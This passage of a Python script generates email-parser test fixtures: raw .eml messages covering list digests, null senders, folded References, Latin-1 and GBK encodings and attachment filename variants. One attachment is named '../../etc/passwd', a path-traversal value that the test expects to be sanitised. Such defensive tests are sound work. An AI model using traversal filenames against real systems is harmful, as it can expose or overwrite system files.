add("list_mail", """From: Seller Forum <forum@lists.shop.test>
To: sellers@lists.shop.test
Subject: [sellers] Weekly digest
Precedence: list
List-Id: Sellers <sellers.lists.shop.test>
List-Unsubscribe: <mailto:sellers-leave@lists.shop.test>
Date: Sun, 6 Dec 2026 03:00:00 +0000
Message-ID: <digest-49@lists.shop.test>
Delivered-To: support@kefu.test
X-Original-To: support@kefu.test
Content-Type: text/plain; charset=utf-8

This week: 12 new topics.
""", {
    "subject": "[sellers] Weekly digest",
    "delivered_to": ["support@kefu.test"],
    "auto_flags": ["bulk"],
})

# 17. A null sender that is not a DSN (a calendar robot).
add("null_sender", """Return-Path: <>
From: calendar-robot@partner.test
To: support@kefu.test
Subject: Invitation: delivery window
Date: Sun, 6 Dec 2026 04:00:00 +0000
Message-ID: <null-1@partner.test>

Please confirm the delivery window.
""", {
    "return_path": "",
    "auto_flags": ["null_sender"],
    "bounce": None,
})

# 18. No Message-ID and no Date (a script's mail), no MIME headers at all.
add("no_msgid_no_date", """From: orders@shop-script.test
To: support@kefu.test
Subject: order 8812 cancelled

Order 8812 was cancelled by the customer.
""", {
    "from": {"name": "", "address": "orders@shop-script.test"},
    "subject": "order 8812 cancelled",
    "message_id": None,
    "date": 0,
    "text_visible": "Order 8812 was cancelled by the customer.",
    "auto_flags": [],
})

# 19. A long folded References header (60 ids; the newest 50 kept).
refs = ["<thread-%02d.%d@mail.customer.test>" % (i, 1000 + i) for i in range(1, 61)]
add("long_references", """From: Long Thread <long@customer.test>
To: support@kefu.test
Subject: Re: Re: Re: Re: still waiting [#000999]
Date: Mon, 7 Dec 2026 05:00:00 +0000
Message-ID: <thread-61.1061@mail.customer.test>
In-Reply-To: <thread-60.1060@mail.customer.test>
References: %s

Any news?
""" % "\n ".join(refs), {
    "subject": "Re: Re: Re: Re: still waiting [#000999]",
    "in_reply_to": "thread-60.1060@mail.customer.test",
    "references": [r[1:-1] for r in refs[10:]],
    "text_visible": "Any news?",
})

# 20. Latin-1 body, an ISO-8859-1 encoded-word name, a "-- " signature.
add("latin1_signature", b"""From: =?iso-8859-1?Q?Ren=E9_Fran=E7ois?= <rene@customer.test>
To: support@kefu.test
Subject: =?iso-8859-1?Q?Commande_arriv=E9e_ab=EEm=E9e?=
Date: Mon, 7 Dec 2026 06:00:00 +0100
Message-ID: <latin1-1@customer.test>
MIME-Version: 1.0
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: 8bit

Bonjour,

Le colis est arriv\xe9 ab\xeem\xe9.

--=20
Ren\xe9 Fran\xe7ois
T\xe9l. 01 23 45 67 89
""".replace(b"--=20", b"-- ").replace(b"\n", b"\r\n"), {
    "from": {"name": "René François", "address": "rene@customer.test"},
    "subject": "Commande arrivée abîmée",
    "text_visible": "Bonjour,\n\nLe colis est arrivé abîmé.",
    "text_contains": ["Tél. 01 23 45 67 89"],
    "date": 1796619600,
})

# 21. File names the ways clients write them: an RFC 2047 word inside quotes
#     (Outlook, Foxmail), raw 8-bit GBK, RFC 2231 continuations, a name only
#     in Content-Type, a text attachment, a name with a path in it.
gbname = base64.b64encode("发票.pdf".encode("gb2312")).decode()
names = ("From: Qian <qian@customer.test>\r\nTo: support@kefu.test\r\nSubject: invoices\r\n"
         "Date: Mon, 7 Dec 2026 07:00:00 +0800\r\nMessage-ID: <names-1@customer.test>\r\n"
         "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=B\r\n\r\n"
         "--B\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nsee the files\r\n"
         "--B\r\nContent-Type: application/pdf; name=\"=?gb2312?B?%s?=\"\r\n"
         "Content-Disposition: attachment; filename=\"=?gb2312?B?%s?=\"\r\n"
         "Content-Transfer-Encoding: base64\r\n\r\nJVBERi0xLjQK\r\n" % (gbname, gbname)).encode()
names += ("--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"".encode()
          + "订单明细.xlsx".encode("gbk") + b"\"\r\n\r\nxx\r\n")
names += ("--B\r\nContent-Type: image/jpeg\r\nContent-Disposition: attachment;\r\n"
          " filename*0*=UTF-8''%E9%9D%9E%E5%B8%B8%E9%95%BF%E7%9A%84;\r\n filename*1*=%E5%90%8D%E5%AD%97.jpg\r\n\r\nyy\r\n"
          "--B\r\nContent-Type: image/png; name=\"only-in-type.png\"\r\n\r\nzz\r\n"
          "--B\r\nContent-Type: text/plain; name=\"notes.txt\"\r\n\r\nattached text\r\n"
          "--B\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"../../etc/passwd\"\r\n\r\nx\r\n"
          "--B--\r\n").encode()
CORPUS["attachment_names"] = (names, {
    "text_visible": "see the files",
    "attachments": [
        {"filename": "发票.pdf", "content_type": "application/pdf", "size": 9, "contains": "%PDF-1.4"},
        {"filename": "订单明细.xlsx", "content_type": "application/octet-stream", "size": 2},
        {"filename": "非常长的名字.jpg", "content_type": "image/jpeg", "size": 2},
        {"filename": "only-in-type.png", "content_type": "image/png", "size": 2},
        {"filename": "notes.txt", "content_type": "text/plain", "size": 13},
        {"filename": ".._.._etc_passwd", "content_type": "application/octet-stream", "size": 1},
    ],
})

# 22. Mislabelled charsets: UTF-8 text and subject under a GB2312 label (a
#     web form that sends UTF-8 but keeps the old header).
mis_subject = base64.b64encode("退货地址是哪里".encode()).decode()
add("mislabelled_charsets", ("From: web-form@shop.test\r\nTo: support@kefu.test\r\n"
    "Subject: =?gb2312?B?%s?=\r\nDate: Mon, 7 Dec 2026 08:00:00 +0800\r\nMessage-ID: <form-88@shop.test>\r\n"
    "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=gb2312\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    "请问退货地址是哪里？订单号 8812。\r\n" % mis_subject), {
    "subject": "退货地址是哪里",
    "text_visible": "请问退货地址是哪里？订单号 8812。",
})

def main():
    for name, (raw, expect) in sorted(CORPUS.items()):
        with open(os.path.join(HERE, name + ".eml"), "wb") as f:
            f.write(raw)
        with open(os.path.join(HERE, name + ".json"), "w", encoding="utf-8") as f:
            json.dump(expect, f, ensure_ascii=False, indent=1)
            f.write("\n")


if __name__ == "__main__":
    main()
